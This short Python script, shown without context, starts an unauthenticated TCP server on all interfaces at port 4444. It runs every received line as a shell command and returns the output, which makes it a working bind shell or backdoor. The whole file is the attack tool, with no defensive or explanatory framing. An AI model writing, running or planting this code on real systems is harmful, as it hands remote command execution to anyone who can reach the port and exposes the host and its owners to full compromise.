import socketserver
import subprocess


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        line = self.rfile.readline().decode()
        out = subprocess.run(line, shell=True, capture_output=True)
        self.wfile.write(out.stdout + out.stderr)


socketserver.TCPServer(("0.0.0.0", 4444), Handler).serve_forever()
